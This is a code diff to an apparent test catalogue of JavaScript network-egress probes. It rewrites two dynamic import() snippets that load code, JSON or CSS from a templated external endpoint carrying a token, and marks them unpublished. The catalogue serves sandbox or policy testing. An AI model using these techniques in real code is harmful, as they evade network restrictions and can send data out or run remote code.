@@ -108,14 +108,16 @@ export const networkAttacks: readonly Attack[] = [
   {
     id: "dynamic-import",
     title: "import()",
-    code: String.raw`await import('{{E}}/js/{{T}}')`,
+    code: String.raw`const at='{{E}}/js/{{T}}';await import(at)`,
     signs: ["egress"],
+    unpublished: true,
   },
   {
     id: "dynamic-import-json",
     title: "import(json/css) with attributes",
-    code: String.raw`import('{{E}}/x/{{T}}',{with:{type:'json'}}).catch(()=>{});import('{{E}}/css/{{T}}',{with:{type:'css'}}).catch(()=>{})`,
+    code: String.raw`const at='{{E}}/x/{{T}}';import(at,{with:{type:'json'}}).catch(()=>{});import(at+'.css',{with:{type:'css'}}).catch(()=>{})`,
     signs: ["egress"],
+    unpublished: true,
   },
   {
     id: "manifest",
